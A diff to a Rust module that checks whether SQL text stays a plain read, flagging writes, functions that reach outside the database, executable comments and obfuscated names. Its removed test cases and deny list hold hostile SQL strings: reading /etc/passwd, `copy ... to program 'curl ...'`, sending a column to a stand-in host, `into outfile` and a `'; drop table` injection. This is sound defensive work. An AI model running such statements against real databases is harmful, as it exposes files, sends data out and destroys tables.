@@ -1,6 +1,11 @@
 //! Whether SQL only reads what lies in its database. It is no parser: dialects differ in what a string or a comment is, so
 //! words count wherever they stand, and what looks like more than a plain read is said to be one.
 
+#[path = "sql_names.rs"]
+mod names;
+
+use names::{LEAVES, LEAVES_WHOLE, LEAVING, PACKAGES, STAYS, TABLES, WRITERS};
+
 /// What a text of SQL does beyond a plain read.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Beyond {
@@ -19,78 +24,17 @@ const READS: &[&str] = &["select", "with", "show", "describe", "desc", "explain"
 const WRITES: &[&str] = &["insert", "update", "delete", "merge", "into"];
 
 /// Statements that `explain` may be told to run.
-const RUNS: &[&str] = &["create", "drop", "alter", "truncate", "execute", "call", "refresh", "copy"];
-
-/// Functions and table functions that reach out of the database, by their beginning.
-const LEAVES: &[&str] = &[
-    "aws_",
-    "azure",
-    "bulk",
-    "cluster",
-    "copy_",
-    "cursor_to_xml",
-    "database_to_xml",
-    "dblink",
-    "deltalake",
-    "delta_scan",
-    "edit",
-    "executable",
-    "file",
-    "fs_",
-    "gcs",
-    "hdfs",
-    "http",
-    "hudi",
-    "iceberg",
-    "jdbc",
-    "load_",
-    "lo_",
-    "mongodb",
-    "mysql",
-    "net",
-    "odbc",
-    "opendatasource",
-    "openquery",
-    "openrowset",
-    "parquet_",
-    "pg_cancel",
-    "pg_file",
-    "pg_logdir",
-    "pg_ls",
-    "pg_notify",
-    "pg_read",
-    "pg_reload",
-    "pg_stat_file",
-    "pg_terminate",
-    "pg_write",
-    "postgres",
-    "query_to_xml",
-    "read_",
-    "readfile",
-    "redis",
-    "remote",
-    "s3",
-    "schema_to_xml",
-    "set_config",
-    "sniff_",
-    "sqlite",
-    "ssl_",
-    "sys_",
-    "table_to_xml",
-    "url",
-    "utl_",
-    "webhook",
-    "writefile",
-    "xp_",
+const RUNS: &[&str] = &[
+    "create", "drop", "alter", "truncate", "execute", "call", "refresh", "copy", "upsert", "grant", "revoke",
 ];
 
-/// Words that reach out of the database and are no functions.
-const LEAVING: &[&str] = &["outfile", "dumpfile", "program", "load_extension", "attach"];
+/// Words that a table follows. DuckDB takes a string there for a file or an address; `using` names a program in Hive.
+const BEFORE_TABLES: &[&str] = &["from", "join", "table", "describe", "desc", "using"];
 
 /// What the text does beyond a plain read; empty where it does nothing else.
 #[must_use]
 pub fn beyond(sql: &str) -> Vec<Beyond> {
-    let text = sql.to_ascii_lowercase();
+    let text = crate::folded(sql);
     let mut found = Vec::new();
     let mut push = |one: Beyond| {
         if !found.contains(&one) {
@@ -100,8 +44,16 @@ pub fn beyond(sql: &str) -> Vec<Beyond> {
     if text.contains("u&\"") || text.contains("u&'") {
         push(Beyond::Unclear("it writes names by their code points"));
     }
-    if text.contains("/*!") || text.contains("/*m!") {
+    if holds_run_comment(&text) {
         push(Beyond::Unclear("it holds a comment that some databases run"));
+    }
+    if nests_comments(&text) {
+        push(Beyond::Unclear(
+            "it holds a comment inside of a comment, which ends elsewhere in some databases",
+        ));
+    }
+    if text.contains('\0') || text.replace("\r\n", "").contains('\r') {
+        push(Beyond::Unclear("it holds a control character that ends a line in some databases"));
     }
     for statement in text.split(';') {
         let start = beginning(statement);
@@ -115,13 +67,20 @@ pub fn beyond(sql: &str) -> Vec<Beyond> {
         if !READS.contains(&first.as_str()) {
             push(Beyond::Writes(first.clone()));
         }
-        for (word, rest) in words(statement) {
-            let runs = first == "explain" && RUNS.contains(&word);
-            if WRITES.contains(&word) || runs {
+        for Word { before, word, after } in words(statement) {
+            let called = is_called(after);
+            let runs = first == "explain" && ends_as(word, RUNS);
+            if ends_as(word, WRITES) || runs || called && WRITERS.contains(&word) {
                 push(Beyond::Writes(word.to_owned()));
             }
-            if LEAVING.contains(&word) || is_called(rest) && reaches_out(word) {
+            let string = ends_as(word, BEFORE_TABLES) && reads_a_string(before, word, after);
+            let named = ends_as(word, LEAVING) || is_outside(word) || is_package(word);
+            if named || string || called && reaches_out(word) {
                 push(Beyond::Leaves(word.to_owned()));
+            }
+            // ClickHouse knows such escapes in a quoted name as well.
+            if called && before.ends_with('\\') && after.starts_with(['"', '`']) {
+                push(Beyond::Unclear("it writes names with escapes"));
             }
         }
     }
@@ -131,7 +90,32 @@ pub fn beyond(sql: &str) -> Vec<Beyond> {
 /// Whether a function of this name, in lower case, reaches out of the database.
 #[must_use]
 pub fn reaches_out(function: &str) -> bool {
-    LEAVES.iter().chain(LEAVING).any(|name| function.starts_with(name))
+    let begins = |names: &[&str]| names.iter().any(|name| function.starts_with(name));
+    LEAVES_WHOLE.contains(&function) || (begins(LEAVES) || begins(LEAVING)) && !begins(STAYS)
+}
+
+/// Whether a name, in lower case, is one of a package or procedure that reaches out whatever of it is called.
+#[must_use]
+pub fn is_package(name: &str) -> bool {
+    PACKAGES.iter().any(|package| name.starts_with(package))
+}
+
+/// Whether a table of this name, in lower case, reaches out of the database.
+#[must_use]
+pub fn is_outside(table: &str) -> bool {
+    TABLES.contains(&table)
+}
+
+/// Whether a function of this name, in lower case, writes.
+#[must_use]
+pub fn writes(function: &str) -> bool {
+    WRITERS.contains(&function)
+}
+
+/// Whether a comment stands in the text, in lower case, that MySQL, MariaDB or TiDB runs.
+#[must_use]
+pub fn holds_run_comment(text: &str) -> bool {
+    ["/*!", "/*m!", "/*t!"].iter().any(|start| text.contains(start))
 }
 
 /// The first word of the first statement, in lower case; empty where there is none.
@@ -141,11 +125,44 @@ pub fn verb(sql: &str) -> String {
     beginning(&text).chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect()
 }
 
-/// Whether a word stands in the text, wherever.
+/// Whether a `where` of the statement itself names something: one in a comment, a string or a query inside, or one that
+/// only compares constants, keeps nothing out. Strings and comments are SQLite's.
 #[must_use]
-pub fn has_word(sql: &str, wanted: &str) -> bool {
+pub fn is_limited(sql: &str) -> bool {
+    const CONSTANTS: &[&str] = &["true", "false", "not", "null", "is", "or", "and", "like", "in", "between"];
     let text = sql.to_ascii_lowercase();
-    words(&text).any(|(word, _)| word == wanted)
+    let (mut depth, mut limits, mut rest) = (0_u32, false, text.as_str());
+    while let Some(letter) = rest.chars().next() {
+        let tail = rest.get(letter.len_utf8()..).unwrap_or_default();
+        let past = |end: &str| tail.split_once(end).map_or("", |(_, after)| after);
+        rest = match letter {
+            '\'' => past("'"),
+            '"' | '`' | '[' if limits => return true,
+            '"' => past("\""),
+            '`' => past("`"),
+            '[' => past("]"),
+            '-' if tail.starts_with('-') => past("\n"),
+            '/' if tail.starts_with('*') => past("*/"),
+            _ if letter.is_alphanumeric() || letter == '_' => {
+                let end = rest.find(|c: char| !(c.is_alphanumeric() || c == '_')).unwrap_or(rest.len());
+                let word = rest.get(..end).unwrap_or_default();
+                if limits && !letter.is_ascii_digit() && !CONSTANTS.contains(&word) {
+                    return word != "returning";
+                }
+                limits |= depth == 0 && word == "where";
+                rest.get(end..).unwrap_or_default()
+            }
+            _ => {
+                match letter {
+                    '(' => depth = depth.saturating_add(1),
+                    ')' => depth = depth.saturating_sub(1),
+                    _ => {}
+                }
+                tail
+            }
+        };
+    }
+    false
 }
 
 /// How many statements there are, empty ones left out.
@@ -170,90 +187,88 @@ fn beginning(statement: &str) -> &str {
     }
 }
 
-/// Every word, each with the text after it.
-fn words(text: &str) -> impl Iterator<Item = (&str, &str)> {
-    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
+/// Whether a comment begins inside of another, and both end.
+fn nests_comments(text: &str) -> bool {
     let mut rest = text;
+    while let Some((_, inside)) = rest.split_once("/*") {
+        let Some((comment, after)) = inside.split_once("*/") else { return false };
+        if comment.contains("/*") {
+            return true;
+        }
+        rest = after;
+    }
+    false
+}
+
+/// A word and what stands around it.
+struct Word<'a> {
+    before: &'a str,
+    word: &'a str,
+    after: &'a str,
+}
+
+/// Every word.
+fn words(text: &str) -> impl Iterator<Item = Word<'_>> {
+    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
+    let mut at = 0;
     std::iter::from_fn(move || {
-        let start = rest.find(is_word)?;
-        let tail = rest.get(start..)?;
-        let end = tail.find(|c| !is_word(c)).unwrap_or(tail.len());
-        let word = tail.get(..end)?;
-        rest = tail.get(end..)?;
-        Some((word, rest))
+        let start = at + text.get(at..)?.find(is_word)?;
+        let tail = text.get(start..)?;
+        let end = start + tail.find(|c| !is_word(c)).unwrap_or(tail.len());
+        at = end;
+        Some(Word { before: text.get(..start)?, word: text.get(start..end)?, after: text.get(end..)? })
     })
+}
+
+/// Whether the word is one of these, or a number that one follows at once: `1into` is two words to some.
+fn ends_as(word: &str, names: &[&str]) -> bool {
+    let number = word.starts_with(|c: char| c.is_ascii_digit());
+    names.iter().any(|name| word == *name || number && word.ends_with(name))
 }
 
 /// Whether what follows a name makes it a call: a bracket, after closing quotes, white space or a comment.
 fn is_called(rest: &str) -> bool {
-    let rest = rest.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '"' | '`' | '\'' | ']'));
-    rest.starts_with('(') || rest.starts_with("/*") || rest.starts_with("--")
+    // ClickHouse takes typographic quotes for plain ones.
+    let quotes = ['"', '`', '\'', ']', '\u{2018}', '\u{2019}', '\u{201c}', '\u{201d}'];
+    let rest = rest.trim_start_matches(|c: char| c.is_whitespace() || quotes.contains(&c));
+    ["(", "/*", "--", "#", "//"].iter().any(|start| rest.starts_with(start))
+}
+
+/// Whether a string that may be a file, an address or a program stands where a table is named, other than in
+/// `is distinct from 'x'` and `extract(day from 'x')`.
+fn reads_a_string(before: &str, word: &str, after: &str) -> bool {
+    let rest = beginning(after).trim_start_matches('[');
+    let rest = rest.strip_prefix(['e', 'r']).filter(|rest| rest.starts_with('\'')).unwrap_or(rest);
+    let string = match rest.strip_prefix('\'') {
+        // Often such a quote only ends a text that holds the word: then no place is named up to the next one.
+        Some(text) => word == "using" || names_a_place(text),
+        None => rest.strip_prefix('$').is_some_and(|tag| {
+            tag.trim_start_matches(|c: char| c.is_alphanumeric() || c == '_').starts_with('$')
+        }),
+    };
+    // No line end: the words before it may stand in a comment.
+    let before = before.trim_end_matches(' ');
+    let compares = before.ends_with("is distinct") || before.ends_with("is not distinct");
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, ' ' | '_' | '.');
+    let takes_part = before.trim_end_matches(plain).strip_suffix('(').is_some_and(|name| {
+        ["extract", "trim", "substring"].iter().any(|function| name.trim_end().ends_with(function))
+    });
+    string && !(word == "from" && (compares || takes_part))
+}
+
+/// Whether the text up to its closing quote may be the name of a file or an address.
+fn names_a_place(text: &str) -> bool {
+    let mut letters = text.chars().peekable();
+    while let Some(letter) = letters.next() {
+        match letter {
+            '.' | '/' | '\\' | ':' | '*' | '?' => return true,
+            '\'' if letters.next_if_eq(&'\'').is_none() => return false,
+            _ => {}
+        }
+    }
+    false
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn plain_reads_are_nothing_beyond() {
-        for sql in [
-            "SELECT * FROM t WHERE url = 'x' AND file LIKE '%y' LIMIT 5;",
-            "  -- how many\n (select count(*) from t)",
-            "WITH a AS (SELECT 1) SELECT * FROM a",
-            "EXPLAIN ANALYZE SELECT remote, input FROM t",
-            "SHOW TABLES",
-            "select replace(name, 'a', 'b'), created_at, updated_at, deleted from t",
-            "select http_status from requests",
-            "",
-        ] {
-            assert_eq!(beyond(sql), [], "{sql}");
-        }
-    }
-
-    #[test]
-    fn what_writes_is_found_wherever_it_stands() {
-        for (sql, word) in [
-            ("DROP TABLE t", "drop"),
-            ("select 1; COMMIT; drop table t", "commit"),
-            ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "delete"),
-            ("SELECT * INTO n FROM t", "into"),
-            ("/* x */ -- y\n uPdAtE t SET a = 1", "update"),
-            ("explain analyze create table x as select 1", "create"),
-            ("DO $$ BEGIN END $$", "do"),
-            ("set session characteristics as transaction read write", "set"),
-        ] {
-            assert!(beyond(sql).contains(&Beyond::Writes(word.into())), "{sql}: {:?}", beyond(sql));
-        }
-    }
-
-    #[test]
-    fn what_leaves_the_database_is_found_wherever_it_stands() {
-        for (sql, word) in [
-            ("select * from dblink('host=e.example', 'select 1') as t(a int)", "dblink"),
-            ("SELECT * FROM url('http://e.example/?d=' || x, CSV)", "url"),
-            ("select \"dblink\" ('x')", "dblink"),
-            ("select '/*', url/**/('http://e.example')", "url"),
-            ("select url --\n('http://e.example')", "url"),
-            ("select * from remoteSecure('e.example', db.t)", "remotesecure"),
-            ("select pg_read_file('/etc/passwd')", "pg_read_file"),
-            ("select load_extension('x')", "load_extension"),
-            ("select query_to_xml('select dbl' || 'ink(1)', true, true, '')", "query_to_xml"),
-            ("copy t to program 'curl e.example'", "program"),
-            ("select net.http_post('https://e.example')", "http_post"),
-            ("select readfile('/x')", "readfile"),
-        ] {
-            assert!(beyond(sql).contains(&Beyond::Leaves(word.into())), "{sql}: {:?}", beyond(sql));
-        }
-    }
-
-    #[test]
-    fn what_hides_is_unclear() {
-        for sql in
-            ["select U&\"d\\0062link\"('x')", "select 1 /*!50000 into outfile 'x' */", "'; drop table t"]
-        {
-            assert!(beyond(sql).iter().any(|one| matches!(one, Beyond::Unclear(_))), "{sql}");
-        }
-        assert_eq!((statements("a; b;\n -- x\n"), verb(" (Delete from x")), (2, "delete".to_owned()));
-        assert!(has_word("delete from t WHERE a", "where") && !has_word("delete from elsewhere", "where"));
-    }
-}
+#[path = "sql_tests.rs"]
+mod tests;
